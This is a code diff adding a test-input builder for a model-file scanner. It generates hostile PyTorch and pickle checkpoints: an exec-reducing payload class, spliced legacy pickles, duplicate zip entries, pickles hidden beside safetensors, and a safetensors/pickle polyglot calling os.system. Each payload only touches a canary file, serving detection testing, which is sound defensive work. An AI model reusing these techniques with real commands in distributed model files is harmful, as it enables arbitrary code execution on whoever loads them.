@@ -125,8 +125,155 @@ def globals_inputs(folder: Path) -> list[Hostile]:
     return out
 
 
+class _Payload:
+    """Pickles as ``exec(code)``: what a hostile object inside a real checkpoint turns into under torch.save."""
+
+    def __init__(self, marker: Path) -> None:
+        self.code = code_payload(marker)
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return exec, (self.code,)
+
+
+def _pickles(data: bytes) -> list[tuple[int, int]]:
+    """(start, end) of each pickle in a stream of pickles written back to back."""
+    import io
+    import pickletools
+
+    stream, spans = io.BytesIO(data), []
+    while stream.tell() < len(data):
+        start = stream.tell()
+        try:
+            for opcode, _arg, position in pickletools.genops(stream):
+                if opcode.name == "STOP":
+                    spans.append((start, (position or 0) + 1))
+                    break
+        except ValueError:
+            break
+        stream.seek(spans[-1][1])
+    return spans
+
+
+def legacy_with(path: Path, replace_index: int, replacement: Callable[[object], bytes]) -> Path:
+    """A legacy torch file whose ``replace_index``-th pickle (2: sys_info, 4: storage keys) is replaced by
+    ``replacement(original value)``."""
+    import pickle
+
+    import torch
+
+    torch.save({"w": torch.ones(2)}, path, _use_new_zipfile_serialization=False)
+    data = path.read_bytes()
+    start, end = _pickles(data)[replace_index]
+    original = pickle.loads(data[start:end])  # our own file, just written
+    path.write_bytes(data[:start] + replacement(original) + data[end:])
+    return path
+
+
+def polyglot(path: Path, marker: Path) -> Path:
+    """A valid safetensors file (the reference reader opens it) whose first 8 bytes and JSON header also form a
+    pickle that runs ``touch marker`` under ``torch.load``: PROTO 4, then BINBYTES swallows the rest of the length
+    field and ``{"``; the first tensor's name holds the program in characters JSON allows (the header is ~55 MB,
+    what the length field's opcode bytes spell)."""
+    command = f"touch {marker}"
+    command += " " * max(0, 32 - len(command))  # SHORT_BINSTRING lengths must be printable characters
+    if len(command) in {34, 92}:  # '"' and '\\' would need escaping in JSON
+        command += " "
+    if len(command) >= 128:
+        raise ValueError(f"path too long for the polyglot: {marker}")
+
+    def short(value: str) -> str:
+        return "U" + chr(len(value)) + value
+
+    name = (
+        short("torch.distributed.checkpoint.metadata")
+        + short("torch.serialization.os.path.os.system")
+        + "q\u0093"  # BINPUT 0xC2, then STACK_GLOBAL: U+0093 in UTF-8
+        + short(command)
+        + "q\u0085R.polyglot"  # BINPUT, TUPLE1, REDUCE, STOP
+    )
+    length_field = b"\x80\x04B\x03\x00\x00\x00\x00"
+    (header_length,) = struct.unpack("<Q", length_field)
+    header = json.dumps({name: {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, ensure_ascii=False).encode()
+    path.write_bytes(length_field + header.ljust(header_length) + struct.pack("<f", 1.0))
+    return path
+
+
+def unread_pickle_inputs(folder: Path) -> list[Hostile]:
+    import pickle
+
+    import torch
+    from safetensors.torch import save_file
+
+    out: list[Hostile] = []
+
+    def add(name: str, target: Path, loads: Path) -> None:
+        marker = folder / f"canary-{name}"
+        out.append(Hostile(name, "unread-pickles", ("scan-model", str(target)), frozenset({1}), marker, loads))
+
+    def payload(name: str) -> bytes:
+        return gadgets(folder / f"canary-{name}")["exec"][1]
+
+    def sys_info(_original: object) -> bytes:
+        return b"\x80\x02}(" + text("little_endian") + b"\x88" + text("x") + payload("legacy-sys-info") + b"u."
+
+    def keys(original: object) -> bytes:  # the same key list, after a payload whose result is popped
+        assert isinstance(original, list)
+        return b"\x80\x02](" + b"".join(text(k) for k in original) + b"e" + payload("legacy-storage-keys") + b"0."
+
+    add("legacy-sys-info", legacy_with(folder / "sys_info.pt", 2, sys_info), folder / "sys_info.pt")
+    add("legacy-storage-keys", legacy_with(folder / "keys.pt", 4, keys), folder / "keys.pt")
+
+    import warnings
+
+    import torch.distributed.checkpoint as dcp
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        dcp.save(
+            {"w": torch.ones(2), "extra": _Payload(folder / "canary-dcp-bytes-item")}, checkpoint_id=folder / "dcp"
+        )
+    add("dcp-bytes-item", folder / "dcp", folder / "dcp")
+
+    for which in (0, 1):
+        name = f"zip-duplicate-data-pkl-{which}"
+        copies = [program(b"}"), program(b"}" + b"(" + text("x") + payload(name) + b"u")]
+        path = folder / f"{name}.pt"
+        with zipfile.ZipFile(path, "w") as archive, warnings.catch_warnings():
+            warnings.simplefilter("ignore")  # "Duplicate name": the point of this file
+            archive.writestr("archive/data.pkl", copies[which])
+            archive.writestr("archive/byteorder", b"little")
+            archive.writestr("archive/data.pkl", copies[1 - which])
+            archive.writestr("archive/version", b"3\n")
+        add(name, path, path)
+
+    twin = folder / "twin"
+    twin.mkdir()
+    save_file({"w": torch.ones(2)}, twin / "model.safetensors")
+    torch.save({"w": torch.ones(2), "hook": _Payload(folder / "canary-folder-bin-twin")}, twin / "pytorch_model.bin")
+    add("folder-bin-twin", twin, twin / "pytorch_model.bin")
+
+    sharded = folder / "sharded"
+    sharded.mkdir()
+    save_file({"w": torch.ones(2)}, sharded / "model-00001-of-00001.safetensors")
+    index = {"metadata": {"total_size": 8}, "weight_map": {"w": "model-00001-of-00001.safetensors"}}
+    (sharded / "model.safetensors.index.json").write_text(json.dumps(index))
+    torch.save(_Payload(folder / "canary-folder-training-args"), sharded / "training_args.bin")
+    add("folder-training-args", sharded, sharded / "training_args.bin")
+
+    raw = folder / "raw"
+    raw.mkdir()
+    save_file({"w": torch.ones(2)}, raw / "model.safetensors")
+    (raw / "optimizer.pt").write_bytes(pickle.dumps(_Payload(folder / "canary-folder-raw-pickle"), protocol=4))
+    add("folder-raw-pickle", raw, raw / "optimizer.pt")
+
+    target = polyglot(folder / "polyglot.bin", folder / "canary-safetensors-polyglot")
+    add("safetensors-polyglot", target, target)
+    return out
+
+
 BUILDERS: dict[str, Callable[[Path], list[Hostile]]] = {
     "globals": globals_inputs,
+    "unread-pickles": unread_pickle_inputs,
 }
 
 
